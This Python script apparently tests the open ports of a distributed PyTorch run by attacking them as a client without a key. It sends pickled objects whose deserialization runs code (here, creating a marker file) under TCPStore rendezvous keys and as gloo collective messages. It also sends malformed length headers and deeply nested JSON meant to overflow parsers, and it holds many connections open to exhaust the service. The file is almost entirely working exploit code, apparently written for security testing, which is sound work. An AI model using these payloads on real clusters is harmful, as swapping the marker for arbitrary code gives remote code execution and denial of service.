"""Attacks of a client without a key on the ports of a run. No attack waits for an answer longer than `SECONDS`."""

import base64
import pickle
import random
import socket
import struct
import sys
from collections.abc import Callable, Iterable
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from pathlib import Path
from typing import Any

SECONDS = 2.0
ANSWER_SECONDS = 0.1  # some protocols do not answer an unknown client
Address = tuple[str, int]
DEEP = b"[" * 200_000
KEYS = ("torch.rendezvous.none", "torch.rendezvous.run", "last_call", "agent/status")


class Payload:
    """A pickle that creates a file when it is loaded."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.mark,)


def _send(address: Address, *pieces: bytes) -> None:
    with suppress(OSError), socket.create_connection(address, SECONDS) as connection:
        connection.settimeout(SECONDS)
        for piece in pieces:
            connection.sendall(piece)
        connection.shutdown(socket.SHUT_WR)
        connection.settimeout(ANSWER_SECONDS)
        connection.recv(64)


def store_messages(key: str, value: bytes) -> bytes:
    """Messages with which a client of torch's TCPStore sets a key: a greeting, and the key and the value with their
    sizes. Torch's client is not used, because it waits forever for a port that is not a store."""
    name = b"/" + key.encode()
    greeting = struct.pack("<BI", 0, 0x3C85F7CE)
    return greeting + struct.pack("<BQ", 1, len(name)) + name + struct.pack("<Q", len(value)) + value


def replace_the_state(address: Address, mark: Path) -> None:
    """A pickle under the keys of torch's rendezvous."""
    for key in KEYS:
        _send(address, store_messages(key, base64.b64encode(pickle.dumps(Payload(mark)))))


def send_garbage(address: Address, mark: Path) -> None:
    """Send bytes of no protocol: none, too few for a header, random ones, zeros, an HTTP request, wrong lengths."""
    chance = random.Random(address[1])
    _send(address)
    _send(address, b"\0")
    _send(address, chance.randbytes(65_536))
    _send(address, bytes(4096))
    _send(address, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
    for length in (0, 1, 1 << 31, (1 << 32) - 1):
        _send(address, struct.pack("<I", length), b"abcd")
        _send(address, struct.pack("<Q", length << 31), b"abcd")
        _send(address, struct.pack(">I", length), b"abcd")


def send_deep_json(address: Address, mark: Path) -> None:
    """Send JSON that overflows a recursive reader, with and without its length before it."""
    _send(address, DEEP)
    _send(address, struct.pack("<I", len(DEEP)), DEEP)
    _send(address, struct.pack("<Q", len(DEEP)), DEEP)


def send_objects(address: Address, mark: Path) -> None:
    """Send what a peer of a gloo object collective sends: the number of a pair, and a pickle's size and bytes."""
    body = pickle.dumps(Payload(mark))
    for pair in range(8):
        _send(address, struct.pack("<q", pair), struct.pack("<q", len(body)), body)
        _send(address, struct.pack("<q", pair), struct.pack("<QQQQ", 64, 0, 0, len(body)), body)


def keep_waiting(address: Address, most: int = 64) -> list[socket.socket]:
    """Open connections that send one byte of a handshake, and stay open until they are closed."""
    connections = []
    with suppress(OSError):
        for _ in range(most):
            connections.append(socket.create_connection(address, SECONDS))
            connections[-1].send(b"\0")
    return connections


ATTACKS: tuple[Callable[[Address, Path], None], ...] = (replace_the_state, send_garbage, send_deep_json, send_objects)


def attack(addresses: Iterable[Address], mark: Path) -> list[socket.socket]:
    """Run every attack on each address, on all of them concurrently. Returns the connections that still wait."""

    def attack_one(address: Address) -> list[socket.socket]:
        connections = keep_waiting(address)
        for send in ATTACKS:
            send(address, mark)
        return connections

    with ThreadPoolExecutor(32) as pool:
        return [connection for kept in pool.map(attack_one, sorted(addresses)) for connection in kept]


def main(mark: str, *addresses: str) -> None:
    """Attack each `IP,PORT` from this process. It prints a line afterwards, and waits until its input ends."""
    split = (address.rpartition(",") for address in addresses)
    connections = attack([(host, int(port)) for host, _, port in split], Path(mark))
    print(f"{len(connections)} connections wait", flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    main(*sys.argv[1:])
